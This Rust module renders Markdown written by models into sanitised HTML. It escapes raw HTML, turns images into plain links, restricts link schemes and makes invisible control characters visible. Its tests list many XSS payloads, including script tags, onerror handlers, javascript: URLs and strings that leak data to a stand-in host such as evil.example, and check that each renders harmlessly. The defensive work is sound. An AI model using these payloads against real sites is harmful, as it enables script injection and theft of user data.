//! Markdown that models wrote, as HTML that is safe to show.
//!
//! Two walls: the parser's events are let through only as far as they are known to be harmless, so that HTML in a text
//! is shown as text; and what is made of them goes through a sanitiser that knows neither.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::OnceLock;

use crate::code::{Kind, Lexer};
use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CodeBlockKind, CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// Bytes of a text that are still read as Markdown; what is longer is shown as it stands.
const LONGEST: usize = 512 << 10;

/// Bytes of a text that are coloured as code; what comes after them is plain. The sanitiser looks at each span.
const PAINTED: usize = 32 << 10;

/// Lists and quotes within one another that are shown as such; what is deeper stands at this depth.
const DEEPEST: usize = 16;

/// The text as HTML.
pub(super) fn html(text: &str) -> String {
    let text = shown(text);
    if text.len() > LONGEST {
        return format!("<pre>{}</pre>", ammonia::clean_text(&text));
    }
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut out = String::with_capacity(text.len() * 3 / 2);
    let mut depth = Depth::default();
    let mut colours = Colours::default();
    let events = Parser::new_ext(&text, options).filter_map(|event| depth.admit(event)).flat_map(harmless);
    html::push_html(&mut out, events.flat_map(|event| colours.paint(event)).map(set_aside));
    put_back(&sanitiser().clean(&out).to_string())
}

/// What text is escaped for, each with a stand-in: characters that Unicode keeps out of texts for good. The sanitiser's
/// time grows with the square of the entities in a text (20,000 of `&amp;` take it seconds), so it is given none.
const ASIDE: [(char, char, &str); 3] =
    [('&', '\u{fdd0}', "&amp;"), ('<', '\u{fdd1}', "&lt;"), ('>', '\u{fdd2}', "&gt;")];

fn set_aside(event: Event<'_>) -> Event<'_> {
    let aside = |text: CowStr<'_>| -> CowStr<'static> {
        let put = |char| ASIDE.iter().find(|(real, ..)| *real == char).map_or(char, |(_, aside, _)| *aside);
        text.chars().map(put).collect::<String>().into()
    };
    let holds = |text: &str| text.contains(['&', '<', '>']);
    match event {
        Event::Text(text) if holds(&text) => Event::Text(aside(text)),
        Event::Code(text) if holds(&text) => Event::Code(aside(text)),
        other => other,
    }
}

/// Puts entities in the places of the stand-ins: wherever they stand, they are text.
fn put_back(clean: &str) -> String {
    let mut out = String::with_capacity(clean.len() + clean.len() / 8);
    for char in clean.chars() {
        match ASIDE.iter().find(|(_, aside, _)| *aside == char) {
            Some((.., entity)) => out.push_str(entity),
            None => out.push(char),
        }
    }
    out
}

/// Keeps what nests within a bound, so that a line of ten thousand `>` is not ten thousand boxes.
#[derive(Default)]
struct Depth(usize);

impl Depth {
    fn admit<'a>(&mut self, event: Event<'a>) -> Option<Event<'a>> {
        match &event {
            Event::Start(Tag::BlockQuote(_) | Tag::List(_)) => {
                self.0 += 1;
                (self.0 <= DEEPEST).then_some(event)
            }
            Event::End(TagEnd::BlockQuote(_) | TagEnd::List(_)) => {
                self.0 -= 1;
                (self.0 < DEEPEST).then_some(event)
            }
            Event::Start(Tag::Item) | Event::End(TagEnd::Item) => (self.0 <= DEEPEST).then_some(event),
            _ => Some(event),
        }
    }
}

/// Colours the code between fences: a span with the class of its kind around each piece that is not plain.
#[derive(Default)]
struct Colours {
    /// In the middle of code.
    lexer: Option<Lexer>,
    painted_bytes: usize,
}

impl Colours {
    fn paint<'a>(&mut self, event: Event<'a>) -> Vec<Event<'a>> {
        match &event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(language))) => self.lexer = Some(Lexer::new(language)),
            Event::End(TagEnd::CodeBlock) => self.lexer = None,
            Event::Text(text) => {
                if let Some(lexer) = &mut self.lexer {
                    self.painted_bytes += text.len();
                    if self.painted_bytes <= PAINTED {
                        return text.split_inclusive('\n').flat_map(|line| painted(lexer, line)).collect();
                    }
                }
            }
            _ => {}
        }
        vec![event]
    }
}

/// The pieces of one line. The only HTML that is written here, and none of it is the text's.
fn painted(lexer: &mut Lexer, line: &str) -> Vec<Event<'static>> {
    let mut events = Vec::new();
    for (kind, piece) in lexer.line(line) {
        let class = match kind {
            Kind::Plain => None,
            Kind::Keyword => Some("<span class=\"k\">"),
            Kind::Literal => Some("<span class=\"l\">"),
            Kind::Number => Some("<span class=\"n\">"),
            Kind::Comment => Some("<span class=\"c\">"),
        };
        events.extend(class.map(|open| Event::InlineHtml(open.into())));
        events.push(Event::Text(piece.to_owned().into()));
        events.extend(class.map(|_| Event::InlineHtml("</span>".into())));
    }
    events
}

/// What an event may show.
fn harmless(event: Event<'_>) -> impl Iterator<Item = Event<'_>> {
    let (first, second) = match event {
        Event::Html(text) | Event::InlineHtml(text) => (Event::Text(text), None),
        Event::Start(Tag::HtmlBlock) => (Event::Start(Tag::Paragraph), None),
        Event::End(TagEnd::HtmlBlock) => (Event::End(TagEnd::Paragraph), None),
        // Below the headings of the page that it is shown in.
        Event::Start(Tag::Heading { level, .. }) => {
            let tag = Tag::Heading { level: lower(level), id: None, classes: Vec::new(), attrs: Vec::new() };
            (Event::Start(tag), None)
        }
        Event::End(TagEnd::Heading(level)) => (Event::End(TagEnd::Heading(lower(level))), None),
        // A picture that is loaded tells its server what was said; one that is only named tells nobody.
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            let link = Event::Start(Tag::Link { link_type, dest_url, title, id });
            (link, Some(Event::Text(CowStr::Borrowed("picture: "))))
        }
        Event::End(TagEnd::Image) => (Event::End(TagEnd::Link), None),
        Event::TaskListMarker(done) => (Event::Text(CowStr::Borrowed(if done { "☑ " } else { "☐ " })), None),
        other => (other, None),
    };
    std::iter::once(first).chain(second)
}

fn lower(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

/// Lets through what the events above can be and nothing else.
fn sanitiser() -> &'static Builder<'static> {
    static SANITISER: OnceLock<Builder<'static>> = OnceLock::new();
    SANITISER.get_or_init(|| {
        let tags = [
            "p",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "hr",
            "br",
            "span",
        ];
        let mut builder = Builder::empty();
        builder
            .tags(HashSet::from(tags))
            .add_tag_attributes("a", ["href", "title"])
            .add_tag_attributes("ol", ["start"])
            .add_tag_attributes("code", ["class"])
            .add_tag_attribute_values("span", "class", ["k", "l", "n", "c"])
            .add_tag_attribute_values("th", "align", ["left", "center", "right"])
            .url_schemes(HashSet::from(["http", "https", "mailto"]))
            .url_relative(UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer nofollow"))
            .set_tag_attribute_value("a", "target", "_blank")
            .attribute_filter(|tag, name, value| match (tag, name) {
                ("code", "class") => is_language(value).then_some(Cow::Borrowed(value)),
                _ => Some(Cow::Borrowed(value)),
            });
        builder
    })
}

/// `language-rust`, as the parser writes it.
fn is_language(class: &str) -> bool {
    let letter = |byte: u8| byte.is_ascii_alphanumeric() || b"+#-_.".contains(&byte);
    class.strip_prefix("language-").is_some_and(|name| name.len() <= 32 && name.bytes().all(letter))
}

/// The text with what steers a terminal or turns the direction of writing made visible, so that it steers nothing.
fn shown(text: &str) -> Cow<'_, str> {
    if !text.contains(is_unseen) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for char in text.chars() {
        match char {
            '\r' => {}
            // A picture for each control character stands at U+2400.
            '\0'..'\u{20}' if is_unseen(char) => out.extend(char::from_u32(0x2400 + u32::from(char))),
            '\u{7f}' => out.push('\u{2421}'),
            _ if is_unseen(char) => out.push_str(&format!("[U+{:04X}]", u32::from(char))),
            _ => out.push(char),
        }
    }
    Cow::Owned(out)
}

/// What a reader would not see but feel.
fn is_unseen(char: char) -> bool {
    let steers = char.is_control() && char != '\n' && char != '\t';
    let turns = matches!(char, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    // Letters of a tag that nobody sees and every model reads; ends of lines that no editor shows.
    let hides = matches!(char, '\u{2028}' | '\u{2029}' | '\u{fdd0}'..='\u{fdef}' | '\u{e0000}'..='\u{e007f}');
    steers || turns || hides
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_looks_like_what_it_means() {
        for (text, wanted) in [
            ("hello", "<p>hello</p>\n"),
            ("# One\n## Two", "<h3>One</h3>\n<h4>Two</h4>\n"),
            ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>\n"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"),
            ("- [x] done", "<ul>\n<li>☑ done</li>\n</ul>\n"),
            ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
            ("```rust\na < b\n```", "<pre><code class=\"language-rust\">a &lt; b\n</code></pre>\n"),
            (
                "[a](https://a.example)",
                "<p><a href=\"https://a.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a></p>\n",
            ),
            (
                "|a|\n|-|\n|b|",
                "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>b</td></tr>\n</tbody></table>\n",
            ),
        ] {
            assert_eq!(html(text), wanted, "{text}");
        }
    }

    #[test]
    fn code_is_coloured_by_classes_and_only_so_much_of_it() {
        let text = "```rust\nlet x = \"<b>\"; // 4\n/* a\nb */ 1\n```";
        let wanted = "<pre><code class=\"language-rust\"><span class=\"k\">let</span> x = \
                      <span class=\"l\">\"&lt;b&gt;\"</span>; <span class=\"c\">// 4\n</span>\
                      <span class=\"c\">/* a\n</span><span class=\"c\">b */</span> <span class=\"n\">1</span>\n</code></pre>\n";
        assert_eq!(html(text), wanted);
        assert_eq!(html("```brainfuck\nlet\n```"), "<pre><code class=\"language-brainfuck\">let\n</code></pre>\n");
        assert_eq!(html("let `let`"), "<p>let <code>let</code></p>\n", "only what stands between fences");
        assert_eq!(html("<span class=\"k\">x</span>"), "<p>&lt;span class=\"k\"&gt;x&lt;/span&gt;</p>\n");
        let long = html(&format!("```rust\n{}```", "let 1;\n".repeat(PAINTED)));
        assert!(
            long.matches("<span").count() <= PAINTED && long.ends_with("let 1;\n</code></pre>\n"),
            "the rest is plain"
        );
    }

    #[test]
    fn hostile_text_is_shown_and_does_nothing() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "text <b onclick=alert(1)>bold</b>",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](java\tscript:alert(1))",
            "[a](&#106;avascript:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "[a](vbscript:x)",
            "[a](//evil.example)",
            "[a](/api/v1/tokens)",
            "<javascript:alert(1)>",
            "![a](https://evil.example/?q=secret)",
            "![a](\" onerror=alert(1) x=\")",
            "[a](https://x.example \"\\\" onmouseover=alert(1) x=\\\"\")",
            "```\"onmouseover=alert(1)\nx\n```",
            "```</code></pre><script>alert(1)</script>\nx\n```",
            "<style>body{display:none}</style>",
            "<iframe src=//evil.example></iframe>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<form action=//evil.example><input name=token>",
            "<a href=javascript:alert(1)>x</a>",
            "<base href=//evil.example>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ] {
            let html = html(text);
            // Every `<` that is left begins one of the tags that are let through, with the attributes it may have.
            for tag in html.split('<').skip(1) {
                let tag = tag.split('>').next().unwrap_or_default();
                let (name, rest) =
                    tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
                assert!(["p", "a", "pre", "code", "h3", "ul", "li"].contains(&name), "{text}: {html}");
                let good = ["href=\"https://", "title=\"", "target=\"_blank", "rel=\"noopener", "class=\"language-"];
                let mut attributes = rest.split("\" ").filter(|part| !part.is_empty());
                assert!(attributes.all(|one| good.iter().any(|good| one.starts_with(good))), "{text}: {html}");
            }
        }
    }

    #[test]
    fn what_nobody_sees_is_shown() {
        assert_eq!(html("a\u{1b}[31mred\u{7}\u{0}\u{7f}"), "<p>a␛[31mred␇�␡</p>\n".replace('�', "␀"));
        assert_eq!(html("user\u{202e}nimda"), "<p>user[U+202E]nimda</p>\n");
        assert_eq!(html("`x\u{2066}y`"), "<p><code>x[U+2066]y</code></p>\n");
        assert_eq!(html("a\u{9b}31m"), "<p>a[U+009B]31m</p>\n");
        assert_eq!(html("hi\u{e0041}"), "<p>hi[U+E0041]</p>\n");
        assert_eq!(html("a\r\nb\tc"), "<p>a\nb\tc</p>\n");
        assert_eq!(
            html("שלום\u{200f} مرحبا 👩\u{200d}🚀"),
            "<p>שלום\u{200f} مرحبا 👩\u{200d}🚀</p>\n",
            "words stay as they are"
        );
    }

    /// For how many seconds this thread has worked: others that want the processor too do not count.
    fn worked() -> i64 {
        rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime).tv_sec
    }

    #[test]
    fn no_text_takes_long_or_nests_without_end() {
        let long = |unit: &str| unit.repeat(100_000 / unit.len());
        for unit in [
            "x",
            ">",
            "> ",
            "- ",
            "[",
            "![",
            "*",
            "_*",
            "`",
            "<",
            "&",
            "(",
            "[a](",
            "|",
            "|-|\n",
            "\\",
            "#",
            "1. ",
            "<b>",
            "**a *b ",
            "```\n",
            "a\n",
            "[a]: b\n",
            "$",
            "\u{1b}[0m",
            "\u{202e}",
            "```rust\n\"1 let/*\n",
        ] {
            let begun = worked();
            let html = html(&long(unit));
            let took = worked() - begun;
            assert!(took < 5, "{unit:?} took {took} s");
            let deep = html.match_indices("<blockquote").count().max(html.match_indices("<ul").count());
            assert!(unit.len() > 2 || deep <= DEEPEST, "{unit:?}: {deep} boxes");
        }
        let huge = html(&"**x** ".repeat(LONGEST));
        assert!(huge.starts_with("<pre>**x**"), "{:.40}", huge);
    }
}
